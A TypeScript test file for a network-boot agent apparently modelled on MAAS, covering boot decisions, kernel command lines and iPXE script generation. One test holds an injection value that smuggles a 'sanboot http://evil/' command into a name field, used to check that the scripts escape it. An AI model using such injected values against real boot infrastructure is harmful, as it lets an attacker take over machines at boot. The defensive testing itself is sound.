import { expect, test } from "vitest";
import { stepBootPlan } from "@/shared/machine/boot_plan.ts";
import { bootPlanFor } from "@/shared/machine/boot_plans.ts";
import { SiteState, type StateOperation } from "@/shared/contract/site_state.ts";
import { parseMacAddress } from "@/shared/net/mac_address.ts";
import { decideBoot } from "./decide_boot.ts";
import { ephemeralScript, localDiskScript, nothingScript } from "./ipxe_script.ts";
import { kernelCommandLine } from "./kernel_command_line.ts";

const file = (digit: string) => ({ sha256: digit.repeat(64), bytes: 1 });
const state = SiteState.parse({
  site: { id: "s-1", name: "one" },
  generation: 1,
  issuedAt: "2026-01-01T00:00:00Z",
  subnets: [],
  machines: [{
    systemId: "abc234",
    hostname: "node-1",
    architecture: "amd64",
    macs: ["52:54:00:00:00:01"],
    reservations: [],
    boot: "power_off",
  }],
  operations: [],
  images: [{
    id: "debian",
    title: "Debian 12",
    architecture: "amd64",
    kernel: file("a"),
    initrd: file("b"),
    squashfs: file("c"),
  }],
  bootFiles: [],
  enlistImageId: "debian",
});
const image = state.images[0]!; // parsed just above, with one image
const machine = state.machines[0]!; // likewise
const plan = bootPlanFor("deploy", { hasBmc: true })!; // a deploy always has a plan
const order: StateOperation = {
  id: "o-1",
  kind: "deploy",
  systemId: "abc234",
  askedAt: "2026-01-01T00:00:00Z",
  plan,
  imageId: "debian",
};

test("an unknown machine is enlisted, where the site allows it", () => {
  expect(decideBoot(state, undefined)).toMatchObject({ kind: "ephemeral", purpose: "enlist" });
  const closed = { ...state, enlistImageId: undefined };
  expect(decideBoot(closed, undefined)).toMatchObject({ kind: "local_disk" });
});

test("a machine with an operation boots what its phase says", () => {
  const step = stepBootPlan(plan, [], 0);
  expect(decideBoot(state, { machine, operation: { order, step } })).toMatchObject({
    kind: "ephemeral",
    purpose: "install",
    operationId: "o-1",
  });
});

test("a machine whose deploy ended boots its disk, though the region has not heard of it", () => {
  const step = { ...stepBootPlan(plan, [], 0), outcome: { kind: "done" as const, atMs: 1 } };
  expect(decideBoot(state, { machine, operation: { order, step } }).kind).toBe("local_disk");
});

test("a machine at rest does what the region said", () => {
  expect(decideBoot(state, { machine }).kind).toBe("power_off");
  expect(decideBoot(state, { machine: { ...machine, boot: "local_disk" } }).kind)
    .toBe("local_disk");
});

test("an operation whose image is missing switches the machine off and says why", () => {
  const step = stepBootPlan(plan, [], 0);
  const other = { ...order, imageId: "gone" };
  expect(decideBoot(state, { machine, operation: { order: other, step } })).toMatchObject({
    kind: "power_off",
    why: expect.stringContaining("image gone is not in this site's state"),
  });
});

test("the kernel command line has MAAS's tokens and nothing secret", () => {
  const line = kernelCommandLine({
    image,
    filesUrl: "http://192.0.2.1:5249",
    hostname: "node-1",
    mac: parseMacAddress("52:54:00:00:00:01"),
    preseedUrl: "http://192.0.2.1:5248/MAAS/metadata/latest/by-id/abc234/?op=get_preseed",
  });
  expect(line.split(" ")).toEqual(expect.arrayContaining([
    `root=squash:http://192.0.2.1:5249/images/${"c".repeat(64)}/squashfs`,
    "ip=::::node-1:BOOTIF:dhcp",
    "overlayroot=tmpfs",
    "BOOTIF=01-52-54-00-00-00-01",
  ]));
  expect(line).toContain("cc:{'datasource_list': ['MAAS']}end_cc cloud-config-url=http://");
});

test("the command line is in the words of the image's initramfs", () => {
  const root = (bootProfile: string) =>
    kernelCommandLine({
      image: { ...image, bootProfile },
      filesUrl: "http://192.0.2.1:5249",
      hostname: "node-1",
      mac: parseMacAddress("52:54:00:00:00:01"),
      preseedUrl: "http://192.0.2.1:5248/x",
    }).split(" ");
  const file = `http://192.0.2.1:5249/images/${"c".repeat(64)}`;
  // What dracut 059's parse-livenet.sh and live-boot 20230131's 9990-mount-http.sh look for.
  expect(root("dracut")).toEqual(expect.arrayContaining([
    `root=live:${file}/squashfs.img`,
    "rd.neednet=1",
    "ip=dhcp",
    "BOOTIF=01-52-54-00-00-00-01",
  ]));
  expect(root("live-boot"))
    .toEqual(expect.arrayContaining(["boot=live", `fetch=${file}/filesystem.squashfs`]));
  for (const profile of ["dracut", "live-boot"]) {
    expect(root(profile)).toContain("cloud-config-url=http://192.0.2.1:5248/x");
    expect(root(profile).join(" ")).not.toMatch(/root=squash|overlayroot/);
  }
});

test("an image of a profile that this agent does not know is not booted, and it says so", () => {
  const step = stepBootPlan(plan, [], 0);
  const newer = { ...state, images: state.images.map((one) => ({ ...one, bootProfile: "new" })) };
  expect(decideBoot(newer, { machine, operation: { order, step } })).toMatchObject({
    kind: "power_off",
    why: expect.stringContaining('profile "new"; this agent knows maas, dracut, live-boot'),
  });
});

test("the machine's own kernel options follow the image's", () => {
  const line = kernelCommandLine({
    image: { ...image, kernelOptions: "quiet iommu=off" },
    filesUrl: "http://192.0.2.1:5249",
    hostname: "node-1",
    mac: parseMacAddress("52:54:00:00:00:01"),
    preseedUrl: "http://192.0.2.1:5248/x",
    kernelOptions: "iommu=pt",
  });
  expect(line).toContain(" quiet iommu=off iommu=pt ");
});

test("an iPXE script cannot be extended by what stands in a name", () => {
  const why = "node\nsanboot http://evil/ ${net0/mac}";
  for (
    const script of [
      localDiskScript({ why }),
      nothingScript(why),
      ephemeralScript({ filesUrl: "http://192.0.2.1", image, commandLine: "ro", why }),
    ]
  ) {
    expect(script.startsWith("#!ipxe\n")).toBe(true);
    expect(script.split("\n")[1]).toBe("echo Rackwright: node sanboot http://evil/ $ {net0/mac}");
  }
});

test("a UEFI machine's disk is started by a program where the site has one", () => {
  const efiProgramUrl = "http://192.0.2.1:5248/files/local_boot.efi";
  expect(localDiskScript({ why: "deployed", efiProgramUrl })).toContain(
    `chain ${efiProgramUrl} ||`,
  );
  expect(localDiskScript({ why: "deployed" })).not.toContain("chain");
});
